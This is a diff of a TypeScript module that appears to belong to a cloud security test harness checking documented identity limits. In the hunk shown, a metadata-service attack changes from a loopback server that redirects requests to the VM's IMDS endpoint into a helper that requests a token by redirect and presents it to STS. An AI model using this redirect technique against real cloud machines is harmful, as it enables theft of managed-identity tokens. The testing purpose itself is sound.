@@ -1,13 +1,12 @@
 /** What does get in, since no cloud can tell it from the workload: the limits that the documentation states. */
 import { signIn } from "../exploits/entra-sign-in";
 import { Refused } from "../exploits/exploit";
-import { LoopbackServer } from "../http/loopback-server";
 import type { AttackContext } from "./attack";
 import { inCopiedCache } from "./copied-cache";
 import { plantedCredential, proofOfJob } from "./federated-credential";
 import { plantSession } from "./guest-cache";
 import { callHelper } from "./helper-call";
-import { askOddly } from "./imds-request";
+import { askByRedirect } from "./imds-request";
 import { permitAssigning, takeIdentity } from "./other-team";
 import { presentToken } from "./sts-call";
 import { genuineToken } from "./tokens";
@@ -83,15 +82,8 @@ export const limits: readonly Limit[] = [
     answer:
       "the header shows no more than that a program means to ask for metadata; the helper follows no redirect, and no other program should send the header elsewhere",
     async attempt(context) {
-      const redirecting = await LoopbackServer.listen(({ url = "" }, response) => {
-        response.writeHead(302, { location: `${context.vm.imdsUrl}${url}` }).end();
-      });
-      try {
-        const answer = await askOddly(context, { url: redirecting.url });
-        return await presentToken(context, (answer as { access_token: string }).access_token);
-      } finally {
-        await redirecting.close();
-      }
+      const answer = await askByRedirect(context, { Metadata: "true" });
+      return presentToken(context, (answer as { access_token: string }).access_token);
     },
   },
   {
